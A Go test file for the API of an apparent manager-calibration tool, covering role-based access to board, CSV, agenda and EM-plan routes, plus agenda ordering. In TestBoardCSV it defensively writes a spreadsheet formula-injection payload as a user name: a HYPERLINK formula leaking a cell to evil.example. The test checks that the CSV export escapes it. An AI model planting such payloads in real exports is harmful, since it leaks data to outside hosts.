package httpapi_test

// Who reaches the board, its CSV and agenda, and an EM's history, packet
// and plan, and two round trips through them: names
// written through the user API come back defused in the CSV, and flags
// written through ratings, notes and decisions come back as the agenda.

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"

	"calibrate/internal/testkit"
)

type accessProbe struct {
	who    string // e-mail
	method string
	path   string
	body   any
	want   int
}

func TestBoardAndEMRoutesByCaller(t *testing.T) {
	e := testkit.New(t)
	seedOrg(t, e, "Coown", 6, 1, 2) // director and director2 co-own every cycle
	tokens := map[string]string{}
	tok := func(email string) string {
		if _, ok := tokens[email]; !ok {
			tokens[email] = e.Token(email)
		}
		return tokens[email]
	}
	const (
		lead, coOwner = "director@coown.test", "director2@coown.test"
		leadEM, coEM  = "em1@coown.test", "em2@coown.test" // em1 reports to director, em2 to director2
	)
	acme := calibratingCycle(t, e, tok(demoDana))
	coown := calibratingCycle(t, e, tok(lead))
	alex, blair := e.ID(demoAlex), e.ID(demoBlair)
	em1, em2 := userID(t, e, leadEM), userID(t, e, coEM)

	item := func(as, emID string) string {
		t.Helper()
		res := e.Post(tok(as), emPath(emID, "plan"), map[string]any{"criterion": "autonomy", "action": "Decide the Q1 scope cut without escalating."})
		wantStatus(t, res, http.StatusCreated)
		return res.JSON()["id"].(string)
	}
	alexItem, em1Item, em2Item := item(demoDana, alex), item(lead, em1), item(coOwner, em2)

	cycleRoutes := func(who, cycle string, want int) []accessProbe {
		var ps []accessProbe
		for _, r := range []string{"board", "board.csv", "agenda"} {
			ps = append(ps, accessProbe{who, http.MethodGet, cyclePath(cycle, r), nil, want})
		}
		return ps
	}
	// emRoutes: reads (history, packet, plan), then the plan writes.
	emRoutes := func(who, emID, itemID string, read, create, patch int) []accessProbe {
		add := map[string]any{"criterion": "strategic_thinking", "action": "Write the investment case for the platform."}
		return []accessProbe{
			{who, http.MethodGet, emPath(emID, "history"), nil, read},
			{who, http.MethodGet, emPath(emID, "packet"), nil, read},
			{who, http.MethodGet, emPath(emID, "plan"), nil, read},
			{who, http.MethodPost, emPath(emID, "plan"), add, create},
			{who, http.MethodPatch, emPath(emID, "plan", itemID), map[string]any{"status": "in_progress"}, patch},
		}
	}
	var probes []accessProbe
	add := func(ps ...accessProbe) { probes = append(probes, ps...) }
	const ok, created, forbidden, missing = http.StatusOK, http.StatusCreated, http.StatusForbidden, http.StatusNotFound

	// The lead, the co-owner and the admin read the cycle; a director who
	// does not own it finds nothing; EMs may never use the route.
	add(cycleRoutes(demoDana, acme, ok)...)
	add(cycleRoutes(lead, coown, ok)...)
	add(cycleRoutes(coOwner, coown, ok)...)
	add(cycleRoutes(demoOmar, acme, missing)...)
	add(cycleRoutes("admin@acme.test", acme, ok)...)
	add(cycleRoutes(demoAlex, acme, forbidden)...)
	// A peer reaches the routes, which its guests read, but finds no
	// cycle unless invited.
	add(cycleRoutes(demoPat, acme, missing)...)
	// Nothing crosses an organisation.
	add(cycleRoutes("gwen@globex.test", acme, missing)...)
	add(cycleRoutes("admin@globex.test", acme, missing)...)
	add(cycleRoutes("hank@globex.test", acme, forbidden)...) // an EM: the role decides first
	add(cycleRoutes(demoDana, coown, missing)...)
	add(cycleRoutes("admin@acme.test", coown, missing)...)

	// An EM's record: the managers above the EM write and read, admins
	// read, the EM reads and writes their own; every one else: 404.
	add(emRoutes(demoDana, alex, alexItem, ok, created, ok)...)
	add(emRoutes(lead, em1, em1Item, ok, created, ok)...)
	add(emRoutes(coOwner, em2, em2Item, ok, created, ok)...)
	add(emRoutes(coOwner, em1, em1Item, missing, missing, missing)...) // co-owns the cycle, but is not above em1
	add(emRoutes(demoOmar, alex, alexItem, missing, missing, missing)...)
	add(emRoutes("admin@acme.test", alex, alexItem, ok, forbidden, forbidden)...)
	add(emRoutes(demoAlex, alex, alexItem, ok, created, ok)...)
	add(emRoutes(leadEM, em1, em1Item, ok, created, ok)...)
	add(emRoutes(demoBlair, alex, alexItem, missing, missing, missing)...)
	add(emRoutes(demoAlex, blair, alexItem, missing, missing, missing)...)
	add(emRoutes(demoPat, alex, alexItem, forbidden, forbidden, forbidden)...)
	add(emRoutes("gwen@globex.test", alex, alexItem, missing, missing, missing)...)
	add(emRoutes("hank@globex.test", alex, alexItem, missing, missing, missing)...)
	add(emRoutes("admin@globex.test", alex, alexItem, missing, forbidden, forbidden)...)
	add(emRoutes(demoDana, em1, em1Item, missing, missing, missing)...)
	// An item of someone else's plan is not in this EM's plan.
	add(accessProbe{demoAlex, http.MethodPatch, emPath(alex, "plan", em1Item), map[string]any{"status": "done"}, missing})
	add(accessProbe{demoDana, http.MethodPatch, emPath(blair, "plan", alexItem), map[string]any{"status": "done"}, missing})

	for _, p := range probes {
		res := e.Do(testkit.Request{Method: p.method, Path: p.path, Token: tok(p.who), Body: p.body})
		if res.Status != p.want {
			t.Errorf("%s %s as %s: %d, want %d; %s", p.method, p.path, p.who, res.Status, p.want, res.Body)
			continue
		}
		switch {
		case p.want == missing:
			checkErrorShape(t, res, "not_found")
		case p.want == forbidden:
			checkErrorShape(t, res, "forbidden")
		case strings.HasSuffix(p.path, "/board.csv"):
			wantType(t, res, "text/csv")
		case strings.HasSuffix(p.path, "/packet"):
			wantType(t, res, "text/markdown")
		case strings.HasSuffix(p.path, "/history") && (p.who == demoAlex || p.who == leadEM):
			// The EM's own history holds released cycles only.
			var h historyDoc
			res.Decode(t, &h)
			if len(h.Cycles) == 0 {
				t.Errorf("%s sees no history", p.who)
			}
			for _, c := range h.Cycles {
				if c.Cycle.State != "released" || c.Cycle.ID == acme || c.Cycle.ID == coown {
					t.Errorf("%s's own history shows %s (%s)", p.who, c.Cycle.Name, c.Cycle.State)
				}
			}
		}
	}
}

func wantType(t testing.TB, res *testkit.Response, prefix string) {
	t.Helper()
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, prefix) {
		t.Errorf("Content-Type %q, want %s", ct, prefix)
	}
}

func readCSV(t testing.TB, e *testkit.Env, tok, cycleID string) [][]string {
	t.Helper()
	res := e.Get(tok, cyclePath(cycleID, "board.csv"))
	wantStatus(t, res, http.StatusOK)
	wantType(t, res, "text/csv")
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="board-`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	r := csv.NewReader(bytes.NewReader(res.Body))
	r.FieldsPerRecord = 0 // every line as long as the header
	lines, err := r.ReadAll()
	if err != nil {
		t.Fatalf("board.csv does not parse: %v\n%s", err, res.Body)
	}
	return lines
}

func TestBoardCSV(t *testing.T) {
	e := testkit.New(t)
	dana, admin := e.Token(demoDana), e.Token("admin@acme.test")
	id := calibratingCycle(t, e, dana)

	lines := readCSV(t, e, dana, id)
	header := append(append([]string{"em", "composite", "evidence_coverage"}, boardCriteria...),
		"suggested", "decision", "previous", "flags", "changes")
	if !slices.Equal(lines[0], header) {
		t.Fatalf("header %v, want %v", lines[0], header)
	}
	if len(lines) != 1+4 {
		t.Fatalf("%d lines, want a header and one per participant", len(lines))
	}
	col := func(name string) int { return slices.Index(header, name) }
	b := getBoard(t, e, dana, id, "")
	for i, r := range b.Rows {
		l := lines[1+i]
		if l[col("em")] != r.EM.Name {
			t.Fatalf("line %d is %q, want %q (the board's order)", i+1, l[0], r.EM.Name)
		}
		if want := strconv.FormatFloat(*r.Composite, 'f', 2, 64); l[col("composite")] != want {
			t.Errorf("%s: composite %q, want %s", r.EM.Name, l[col("composite")], want)
		}
		for _, k := range boardCriteria {
			want := ""
			if d := r.Scores[k].Director; d != nil {
				want = strconv.Itoa(*d)
			}
			if l[col(k)] != want {
				t.Errorf("%s %s: %q, want %q", r.EM.Name, k, l[col(k)], want)
			}
		}
		for k, v := range map[string]*string{"suggested": r.Readiness.Suggested, "decision": r.Readiness.Decision, "previous": r.Readiness.Previous} {
			if want := strings.TrimPrefix(show(v), "null"); l[col(k)] != want {
				t.Errorf("%s %s: %q, want %q", r.EM.Name, k, l[col(k)], want)
			}
		}
		var codes []string
		for _, f := range r.Flags {
			if !slices.Contains(codes, f.Code) {
				codes = append(codes, f.Code)
			}
		}
		if got := strings.Fields(l[col("flags")]); !slices.Equal(got, codes) && len(got)+len(codes) > 0 {
			t.Errorf("%s flags %v, want %v", r.EM.Name, got, codes)
		}
	}
	if got := lines[4][col("flags")]; got != "peer_divergence incomplete stalled" {
		t.Errorf("Drew's flags %q", got)
	}

	// Names a spreadsheet would run as formulas, written by the admin and
	// by the EMs themselves, come back with a leading apostrophe.
	names := map[string]string{
		demoAlex:  `=HYPERLINK("https://evil.example/?leak="&A1,"Alex")`,
		demoBlair: "+Blair Okafor",
		demoCasey: "-2+3 Casey",
		demoDrew:  "@SUM(1,2) Drew",
	}
	wantStatus(t, e.Patch(admin, "/api/v1/users/"+e.ID(demoAlex), map[string]any{"name": names[demoAlex]}), http.StatusOK)
	wantStatus(t, e.Patch(admin, "/api/v1/users/"+e.ID(demoCasey), map[string]any{"name": names[demoCasey]}), http.StatusOK)
	wantStatus(t, e.Patch(e.Token(demoBlair), "/api/v1/me", map[string]any{"name": names[demoBlair]}), http.StatusOK)
	wantStatus(t, e.Patch(e.Token(demoDrew), "/api/v1/me", map[string]any{"name": names[demoDrew]}), http.StatusOK)

	lines = readCSV(t, e, dana, id)
	var got []string
	for _, l := range lines[1:] {
		got = append(got, l[0])
	}
	for email, name := range names {
		if !slices.Contains(got, "'"+name) {
			t.Errorf("%s's name %q is not escaped in %q", email, name, got)
		}
	}
	// The board itself shows the names as written.
	for _, r := range getBoard(t, e, dana, id, "").Rows {
		if !slices.Contains([]string{names[demoAlex], names[demoBlair], names[demoCasey], names[demoDrew]}, r.EM.Name) {
			t.Errorf("board name %q", r.EM.Name)
		}
	}
	// Filters apply to the CSV too.
	if res := e.Get(dana, cyclePath(id, "board.csv")+"?flag=self_gap"); res.Status != http.StatusOK ||
		bytes.Count(res.Body, []byte("\n")) != 2 {
		t.Errorf("board.csv?flag=self_gap: %d %s", res.Status, res.Body)
	}
}

// builtCycle is a cycle Omar runs for six new EMs, each written to raise
// exactly one flag, with names in the reverse order of their urgency.
type builtCycle struct {
	id  string
	ems map[string]string // first name → id
}

func buildOmarCycle(t *testing.T, e *testkit.Env) builtCycle {
	t.Helper()
	admin, omar := e.Token("admin@acme.test"), e.Token(demoOmar)
	people := []struct{ first, email, since string }{
		{"Zed", "zed@acme.test", "2019-01-07"}, // peer divergence
		{"Yan", "yan@acme.test", "2019-01-07"}, // self gap, and missing evidence: more weight than one divergence
		{"Xia", "xia@acme.test", "2019-01-07"}, // missing evidence
		{"Wes", "wes@acme.test", "2019-01-07"}, // incomplete
		{"Val", "val@acme.test", "2019-01-07"}, // no peer input
		{"Uma", "uma@acme.test", "2025-09-01"}, // short tenure
	}
	bc := builtCycle{ems: map[string]string{}}
	var ids []string
	for _, p := range people {
		res := e.Post(admin, "/api/v1/users", map[string]any{"name": p.first + " Built", "email": p.email, "role": "em",
			"manager_id": e.ID(demoOmar), "em_since": p.since, "password": demoPassword})
		wantStatus(t, res, http.StatusCreated)
		bc.ems[p.first] = res.JSON()["id"].(string)
		ids = append(ids, bc.ems[p.first])
	}
	res := e.Post(omar, "/api/v1/cycles", map[string]any{"name": "Omar 2026 H2", "em_ids": ids})
	wantStatus(t, res, http.StatusCreated)
	bc.id = res.JSON()["id"].(string)
	move := func(to string) {
		t.Helper()
		wantStatus(t, e.Post(omar, cyclePath(bc.id, "transition"), map[string]any{"to": to}), http.StatusOK)
	}
	requests := map[string]string{}
	for _, first := range []string{"Zed", "Yan", "Xia", "Wes", "Uma"} {
		res := e.Post(omar, cyclePath(bc.id, "peer-requests"), map[string]any{"em_id": bc.ems[first], "peer_id": e.ID("dee@acme.test")})
		wantStatus(t, res, http.StatusCreated)
		requests[first] = res.JSON()["id"].(string)
	}
	move("input_open")
	ratings := func(score int, except map[string]map[string]any) []map[string]any {
		var rs []map[string]any
		for _, k := range boardCriteria {
			r := map[string]any{"criterion": k, "score": score, "evidence": "Concrete example from the platform migration this half."}
			if x, ok := except[k]; ok {
				if x == nil {
					continue
				}
				for kk, v := range x {
					r[kk] = v
				}
			}
			rs = append(rs, r)
		}
		return rs
	}
	wantStatus(t, e.Put(e.Token("yan@acme.test"), cyclePath(bc.id, "self-assessment"),
		map[string]any{"ratings": ratings(3, map[string]map[string]any{"autonomy": {"score": 1}}), "version": 0}), http.StatusOK)
	dee := e.Token("dee@acme.test")
	for first, rid := range requests {
		note := map[string]any{"advocacy": "support", "criteria": []string{"org_leverage"},
			"body": first + " pairs with design on every release and shares the results across teams."}
		if first == "Zed" {
			note = map[string]any{"advocacy": "concern", "criteria": []string{"autonomy"},
				"body": "Zed waited three weeks for a decision on the pricing dependency instead of proposing one."}
		}
		wantStatus(t, e.Put(dee, "/api/v1/peer-requests/"+rid+"/note", note), http.StatusOK)
	}
	for first, id := range bc.ems {
		var except map[string]map[string]any
		switch first {
		case "Xia", "Yan":
			except = map[string]map[string]any{"org_leverage": {"evidence": "Fine."}}
		case "Wes":
			except = map[string]map[string]any{"sustained_performance": nil}
		}
		wantStatus(t, e.Put(omar, cyclePath(bc.id, "ems", id, "assessment"),
			map[string]any{"ratings": ratings(3, except), "version": 0}), http.StatusOK)
	}
	move("calibrating")
	decide(t, e, omar, bc.id, bc.ems["Uma"], "ready_now", "At the bar on every criterion, with strong evidence.", 0)
	return bc
}

// agendaRank is the agenda's order of discussion for an item's most
// pressing reason: divergence and big moves first, short tenure last.
func agendaRank(reasons []string) int {
	order := [][]string{{"peer_divergence", "big_move"}, {"self_gap"}, {"missing_evidence"}, {"incomplete"},
		{"stalled"}, {"no_peer_input"}, {"short_tenure"}}
	best := len(order)
	for _, r := range reasons {
		for i, codes := range order {
			if slices.Contains(codes, r) {
				best = min(best, i)
			}
		}
	}
	return best
}

type agendaDoc struct {
	Items []struct {
		EM      cyRef    `json:"em"`
		Reasons []string `json:"reasons"`
		Minutes int      `json:"minutes"`
	} `json:"items"`
}

func getAgenda(t testing.TB, e *testkit.Env, tok, id string) agendaDoc {
	t.Helper()
	res := e.Get(tok, cyclePath(id, "agenda"))
	wantStatus(t, res, http.StatusOK)
	var a agendaDoc
	res.Decode(t, &a)
	return a
}

// checkAgenda checks the agenda against the board: every participant once,
// with the board's flag codes as reasons, most pressing first.
func checkAgenda(t testing.TB, a agendaDoc, b boardDoc) {
	t.Helper()
	if len(a.Items) != len(b.Rows) {
		t.Fatalf("%d agenda items for %d participants", len(a.Items), len(b.Rows))
	}
	noReason := 1 << 30
	for i, it := range a.Items {
		r := b.row(t, it.EM.Name)
		if r.EM.ID != it.EM.ID {
			t.Fatalf("agenda item %s is not on the board", it.EM.Name)
		}
		var codes []string
		for _, f := range r.Flags {
			if !slices.Contains(codes, f.Code) {
				codes = append(codes, f.Code)
			}
		}
		got := slices.Clone(it.Reasons)
		slices.Sort(got)
		slices.Sort(codes)
		if !slices.Equal(got, codes) {
			t.Errorf("%s: reasons %v, board flags %v", it.EM.Name, it.Reasons, codes)
		}
		if it.Minutes <= 0 {
			t.Errorf("%s: %d minutes", it.EM.Name, it.Minutes)
		}
		if len(it.Reasons) == 0 {
			noReason = min(noReason, it.Minutes)
		} else if agendaRank(it.Reasons[:1]) != agendaRank(it.Reasons) {
			t.Errorf("%s: the first reason of %v is not the most pressing", it.EM.Name, it.Reasons)
		}
		if i > 0 && agendaRank(a.Items[i-1].Reasons) > agendaRank(it.Reasons) {
			t.Errorf("%s (%v) comes after %s (%v)", it.EM.Name, it.Reasons, a.Items[i-1].EM.Name, a.Items[i-1].Reasons)
		}
	}
	for _, it := range a.Items {
		if len(it.Reasons) > 0 && it.Minutes <= noReason && noReason != 1<<30 {
			t.Errorf("%s has %v to discuss in %d minutes, no more than an EM with nothing to discuss", it.EM.Name, it.Reasons, it.Minutes)
		}
	}
}

func agendaNames(a agendaDoc) []string {
	var out []string
	for _, it := range a.Items {
		out = append(out, strings.Fields(it.EM.Name)[0])
	}
	return out
}

func TestAgenda(t *testing.T) {
	e := testkit.New(t)
	dana, omar := e.Token(demoDana), e.Token(demoOmar)

	// The demo: Drew (divergence, incomplete, stalled), Blair (self gap),
	// Casey (no peer input), Alex (nothing).
	id := calibratingCycle(t, e, dana)
	a := getAgenda(t, e, dana, id)
	checkAgenda(t, a, getBoard(t, e, dana, id, ""))
	if got := agendaNames(a); !slices.Equal(got, []string{"Drew", "Blair", "Casey", "Alex"}) {
		t.Fatalf("demo agenda %v", got)
	}
	if a.Items[0].Reasons[0] != "peer_divergence" {
		t.Fatalf("Drew's first reason %v", a.Items[0].Reasons)
	}
	// A big move goes up to the top group with the divergence.
	decide(t, e, dana, id, e.ID(demoCasey), "ready_now", "Every criterion at the bar this half.", 0)
	a = getAgenda(t, e, dana, id)
	checkAgenda(t, a, getBoard(t, e, dana, id, ""))
	if got := agendaNames(a); !slices.Equal(got[:2], []string{"Drew", "Casey"}) || got[2] != "Blair" {
		t.Fatalf("agenda after Casey's big move %v", got)
	}

	// One EM per flag, named so that alphabetical order is the reverse of
	// the discussion order.
	bc := buildOmarCycle(t, e)
	b := getBoard(t, e, omar, bc.id, "")
	want := map[string][]string{
		"Zed": {"peer_divergence:autonomy"}, "Yan": {"missing_evidence:org_leverage", "self_gap:autonomy"}, "Xia": {"missing_evidence:org_leverage"},
		"Wes": {"incomplete"}, "Val": {"no_peer_input"}, "Uma": {"short_tenure"},
	}
	for first, flags := range want {
		if got := b.row(t, first).flagKeys(); !slices.Equal(slices.Sorted(slices.Values(got)), flags) {
			t.Errorf("%s flags %v, want %v", first, got, flags)
		}
	}
	if c := b.row(t, "Xia").EvidenceCoverage; !ptrEq(c, round2(8.0/9)) {
		t.Errorf("Xia's evidence coverage %s, want 0.89", show(c))
	}
	if c := b.row(t, "Wes").EvidenceCoverage; !ptrEq(c, round2(8.0/9)) {
		t.Errorf("Wes's evidence coverage %s, want 0.89: an unrated criterion lowers it", show(c))
	}
	if r := b.row(t, "Wes"); r.Composite == nil || r.Readiness.Suggested != nil {
		t.Errorf("Wes, unrated on one criterion: composite %s, suggested %s", show(r.Composite), show(r.Readiness.Suggested))
	}
	if got := getBoard(t, e, omar, bc.id, "readiness=undecided").firstNames(); !slices.Equal(got, []string{"Val", "Wes", "Xia", "Yan", "Zed"}) {
		t.Errorf("readiness=undecided: %v, want everyone but Uma, the one decided", got)
	}
	if got := getBoard(t, e, omar, bc.id, "flag=short_tenure").firstNames(); !slices.Equal(got, []string{"Uma"}) {
		t.Errorf("flag=short_tenure: %v", got)
	}
	a = getAgenda(t, e, omar, bc.id)
	checkAgenda(t, a, b)
	// Yan's two lesser reasons weigh more than Zed's one divergence, yet
	// the divergence is discussed first.
	if got := agendaNames(a); !slices.Equal(got, []string{"Zed", "Yan", "Xia", "Wes", "Val", "Uma"}) {
		t.Fatalf("agenda %v, want divergence, self gap, missing evidence, incomplete, no peer input, short tenure", got)
	}
}
